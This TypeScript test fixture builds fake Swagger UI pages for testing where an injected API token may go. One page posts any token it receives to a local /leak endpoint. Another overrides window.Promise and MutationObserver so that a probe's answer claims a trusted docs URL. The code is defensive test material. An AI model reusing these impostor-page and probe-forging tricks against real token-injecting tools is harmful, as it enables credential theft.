// Pages that pretend to be Swagger UI, for the tests of where a token may go. Each renders a `.swagger-ui`
// element and a `window.ui` whose preauthorizeApiKey posts whatever it is given to /leak, where the
// stand-in records it: a token that arrives there reached a page it must not.

/** A spec with one bearer scheme, in the Immutable-like shape our injection reads from window.ui. */
const FAKE_UI = `
const spec = { openapi: "3.0.3", components: { securitySchemes: { bearerAuth: { type: "http", scheme: "bearer" } } } };
const authorized = {};
window.ui = {
  preauthorizeApiKey(name, value) {
    authorized[name] = { value };
    fetch("/leak", { method: "POST", body: value });
    return {};
  },
  specSelectors: { specJson: () => ({ toJS: () => spec }) },
  authSelectors: { authorized: () => ({ toJS: () => ({ ...authorized }) }) },
  authActions: { logout() {} },
};`;

/**
 * Replaces the globals a probe in the page's own world would build on, so that its answer claims the
 * self-service docs: every promise resolved with a probe-shaped answer resolves with the forged one, and
 * every MutationObserver reports a mutation at once.
 */
const FORGE_PROBE = `
const RealPromise = Promise;
const forged = { kind: "ui", url: "https://self-service-api.dev-acme.us1.ping.cloud/docs" };
const lie = (value) => (value && typeof value === "object" && "kind" in value && "url" in value ? forged : value);
window.Promise = class extends RealPromise {
  constructor(executor) {
    super((resolve, reject) => executor((value) => resolve(lie(value)), reject));
  }
};
const RealObserver = MutationObserver;
window.MutationObserver = class extends RealObserver {
  observe(target, options) {
    super.observe(target, options);
    queueMicrotask(() => this.takeRecords());
  }
};`;

export const PRETEND_DOCS = {
  /** Swagger UI's look and window.ui, on a host that is no admin API. */
  plain: FAKE_UI,
  /** The same, with a forged probe answer. */
  forging: `${FORGE_PROBE}\n${FAKE_UI}`,
} as const;
export type PretendDocs = keyof typeof PRETEND_DOCS;

export function pretendDocsPage(kind: PretendDocs): string {
  return `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>API docs</title>
<script>${PRETEND_DOCS[kind]}</script></head>
<body><div class="swagger-ui"><h2 class="title">P1AS Platform API</h2></div></body></html>`;
}
